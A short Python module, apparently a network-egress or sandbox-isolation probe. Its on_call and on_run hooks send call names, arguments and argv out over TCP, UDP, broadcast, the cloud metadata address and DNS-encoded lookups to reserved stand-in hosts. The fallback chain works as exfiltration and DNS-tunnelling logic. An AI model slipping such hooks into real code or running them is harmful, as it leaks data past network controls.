"""Sends what it was called with out of the machine: TCP, UDP, DNS and the metadata address of clouds."""

import socket

TCP = (("192.0.2.1", 80), ("198.51.100.7", 443), ("169.254.169.254", 80), ("127.0.0.11", 53))
UDP = (("192.0.2.1", 53), ("169.254.169.254", 123), ("198.51.100.255", 9), ("2001:db8::1", 53))


def out(data):
    for address in TCP:
        try:
            with socket.create_connection(address, timeout=0.2) as sock:
                sock.sendall(data)
                return True
        except OSError:
            continue
    for address in UDP:
        family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.sendto(data, address)
                return True
        except OSError:
            continue
    try:
        return bool(socket.getaddrinfo(f"{data.hex()[:60]}.invalid", 80))
    except OSError:
        return False


def on_call(name, value, *args):
    return value if out(f"{name} {args!r:.200}".encode()) else None


def on_run(argv):
    if not out(f"run {argv}".encode()):
        raise SystemExit(1)
